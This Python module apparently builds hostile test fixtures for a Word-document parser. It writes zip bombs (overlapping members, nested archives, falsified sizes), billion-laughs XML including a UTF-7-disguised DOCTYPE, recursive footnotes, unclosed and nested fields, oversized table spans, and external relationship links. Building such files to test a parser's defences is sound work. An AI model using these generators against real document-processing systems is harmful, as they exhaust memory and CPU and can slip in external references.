"""Writes Word files and zip archives that attack their reader: bombs, loops, false directories."""

from __future__ import annotations

import io
import struct
import zipfile
from pathlib import Path

from build_attacks import docx_with, package
from build_docx import Docx, cell, definition, level, listed, listing, paragraph, row, run, table

RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def overlapping(path: Path, count: int) -> Path:
    """A Word file with members that all point to the same packed data."""
    docx_with(path)
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("word/kernel.xml", b"<x/>" * 1000, zipfile.ZIP_DEFLATED)
        kernel = archive.getinfo("word/kernel.xml")
        for number in range(count):
            twin = zipfile.ZipInfo(f"word/twin{number}.xml")
            for name in ("compress_type", "CRC", "compress_size", "file_size", "header_offset"):
                setattr(twin, name, getattr(kernel, name))
            twin.external_attr = 0
            archive.filelist.append(twin)
    return path


def large_directory(path: Path, count: int) -> Path:
    """An archive of nothing but empty members."""
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("word/document.xml", b"")
        first = archive.getinfo("word/document.xml")
        for number in range(count):
            twin = zipfile.ZipInfo(f"word/{number:09}.xml")
            twin.header_offset, twin.file_size, twin.compress_size, twin.CRC = first.header_offset, 0, 0, 0
            archive.filelist.append(twin)
    return path


def lying_size(path: Path, size: int) -> Path:
    """A Word file whose text unpacks to more than its directory says."""
    docx_with(path, b"<w:document>" + b" " * size + b"</w:document>")
    data = path.read_bytes()
    with zipfile.ZipFile(path) as archive:
        true = archive.getinfo("word/document.xml").file_size
    path.write_bytes(data.replace(struct.pack("<L", true), struct.pack("<L", 10)))
    return path


def nested_archives(path: Path, depth: int) -> Path:
    """A Word file with an archive in an archive in an archive."""
    inner = b"bomb" * 1000
    for number in range(depth):
        stream = io.BytesIO()
        with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
            for copy in range(4):
                archive.writestr(f"{number}-{copy}.zip", inner)
        inner = stream.getvalue()
    return docx_with(path, word__embeddings__inner=inner)


def nested_tables(path: Path, depth: int) -> Path:
    """A Word file with a table in a table in a table, each of two cells."""
    inner = paragraph("Deep down we guarantee it.")
    for _ in range(depth):
        inner = table(row(cell(inner), cell("Beside.")))
    return Docx(inner).write(path)


def note_in_itself(path: Path) -> Path:
    """A Word file whose footnote refers to itself."""
    return _noted(path, [("1", "1")], "1")


def laughing_notes(path: Path, depth: int, width: int) -> Path:
    """A Word file whose footnotes each refer to the next one several times."""
    return _noted(path, [(str(number), " ".join([str(number + 1)] * width)) for number in range(depth)], "0")


def _noted(path: Path, notes: list[tuple[str, str]], first: str) -> Path:
    inner = "".join(
        f'<w:footnote w:id="{name}">{paragraph("Small print.", *map(_mark, targets.split()))}</w:footnote>'
        for name, targets in notes
    )
    return Docx(paragraph("We guarantee it.", _mark(first)), {"footnotes": inner}).write(path)


def _mark(name: str) -> str:
    return f'<w:r><w:footnoteReference w:id="{name}"/></w:r>'


def many_marks(path: Path, count: int, size: int) -> Path:
    """A Word file that refers over and over to one long footnote."""
    note = f'<w:footnote w:id="1">{paragraph("word " * size)}</w:footnote>'
    return Docx(paragraph("Text.", *[_mark("1")] * count), {"footnotes": note}).write(path)


def many_breaks(path: Path, count: int) -> Path:
    """A Word file with so many line breaks in one paragraph."""
    return Docx(paragraph("<w:r>" + "<w:t>a few words</w:t><w:br/>" * count + "</w:r>")).write(path)


def many_fields(path: Path, count: int) -> Path:
    """A Word file with so many fields that open and never end, and as many texts in them."""
    begun = '<w:fldChar w:fldCharType="begin"/><w:fldChar w:fldCharType="separate"/>' * count
    return Docx(paragraph(f"<w:r>{begun}{'<w:t>a </w:t>' * count}</w:r>")).write(path)


def nested_fields(path: Path, count: int) -> Path:
    """A Word file with so many fields one inside the other, and as many texts in the innermost."""
    begun = '<w:fldChar w:fldCharType="begin"/><w:fldChar w:fldCharType="separate"/>' * count
    ended = '<w:fldChar w:fldCharType="end"/>' * count
    return Docx(paragraph(f"<w:r>{begun}{'<w:t>a </w:t>' * count}{ended}</w:r>")).write(path)


def carried_on(path: Path, count: int) -> Path:
    """A Word file whose paragraph marks are all deleted: the text runs on and on."""
    item = paragraph("some words that go on", properties="<w:rPr><w:del/></w:rPr>")
    return Docx(item * count + paragraph("End.")).write(path)


def long_labels(path: Path, count: int, size: int) -> Path:
    """A Word file whose list numbers are written very long."""
    numbering = definition(1, level(0, "decimal", "%1." * size)) + listing(1, 1)
    return Docx("".join(listed("An item.") for _ in range(count)), {"numbering": numbering}).write(path)


def wide_cells(path: Path, rows: int, cells: int) -> Path:
    """A Word file whose cells claim to be very wide."""
    wide = cell("x", properties='<w:gridSpan w:val="999999999"/>')
    return Docx(table(*[row(*[wide] * cells)] * rows)).write(path)


def many_attributes(path: Path, count: int) -> Path:
    """A Word file with so many attributes on one element."""
    inner = "".join(f' a{number}="x"' for number in range(count))
    return Docx(f"<w:p{inner}>{run('Text.')}</w:p>").write(path)


def calling_out(path: Path, *targets: tuple[str, str]) -> Path:
    """A Word file that refers to things outside of it, by kind and target."""
    links = "".join(
        f'<Relationship Id="x{number}" Type="{RELATIONS}/{kind}" Target="{target}" TargetMode="External"/>'
        for number, (kind, target) in enumerate(targets)
    )
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f"{links}</Relationships>"
    )
    members = {name: text.encode() for name, text in Docx(paragraph("Text.")).members().items()}
    return package(path, members | {"word/_rels/settings.xml.rels": relations.encode()})


def stored(path: Path) -> Path:
    """The same archive without any packing, so that no ratio gives it away."""
    with zipfile.ZipFile(path) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return path


def many_cells(path: Path, count: int) -> Path:
    """A Word file with so many table cells."""
    return Docx(table("<w:tr>" + "<w:tc/>" * count + "</w:tr>")).write(path)


def billion_laughs(path: Path) -> Path:
    """A Word file with entities made of entities."""
    return docx_with(path, _laughs("utf-8"))


def declared_in_utf7(path: Path) -> Path:
    """A Word file with one entity, in an encoding in which no byte of it looks like a declaration."""
    return docx_with(path, _laughs("utf-7", 0).replace(b"<!DOCTYPE", b"+ADwAIQ-DOCTYPE"))


def _laughs(encoding: str, depth: int = 9) -> bytes:
    entities = "".join(f'<!ENTITY e{step} "{f"&e{step - 1};" * 10}">' for step in range(1, depth + 1))
    text = f'<!DOCTYPE d [<!ENTITY e0 "ha">{entities}]><d>&e{depth};</d>'
    return f'<?xml version="1.0" encoding="{encoding}"?>{text}'.encode()
